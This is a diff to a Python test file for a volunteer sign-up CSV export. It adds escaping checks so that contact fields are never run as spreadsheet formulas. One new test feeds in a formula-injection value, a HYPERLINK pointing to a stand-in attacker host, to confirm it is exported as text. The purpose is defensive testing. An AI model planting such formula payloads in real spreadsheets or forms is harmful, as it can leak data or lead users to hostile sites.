@@ -4,6 +4,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -214,8 +216,21 @@ async def test_a_shared_contact_is_kept_for_that_initiative_only(
     export = await CommunityStore(engine).export_sign_ups("small_dialogue", chatham_house=False)
     header, row = export.strip().splitlines()
     assert header == "volunteer,status,signed_up_at,shared_contact"
-    assert row.endswith(",placed,2026-11-22T12:00:00Z,+235 66 00 00 00")
+    assert row.endswith(",placed,2026-11-22T12:00:00Z,'+235 66 00 00 00")  # never a formula
     assert amina.id not in export  # the stored pseudonym never leaves
+
+
+async def test_a_contact_that_a_spreadsheet_would_run_is_exported_as_text(
+    service: ConversationService, engine: AsyncEngine
+) -> None:
+    (amina,) = await people(service, "amina")
+    await amina.send("/initiatives")
+    await amina.press("Small dialogue")
+    await amina.press("Sign up and share a contact")
+    await amina.send('=HYPERLINK("https://evil.example/?x","call me")')
+    export = await CommunityStore(engine).export_sign_ups("small_dialogue", chatham_house=False)
+    (row,) = list(csv.reader(io.StringIO(export)))[1:]
+    assert row[3] == '\'=HYPERLINK("https://evil.example/?x","call me")'
 
 
 async def test_signing_up_twice_or_after_the_start_is_refused(
